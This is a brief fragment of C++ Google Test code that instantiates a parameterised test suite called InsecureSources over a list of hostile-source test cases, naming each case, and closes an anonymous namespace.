INSTANTIATE_TEST_SUITE_P(Cases, InsecureSources, ::testing::ValuesIn(insecure_source_cases()),
                         [](const ::testing::TestParamInfo<HostileCase>& info) { return info.param.name; });

}  // namespace
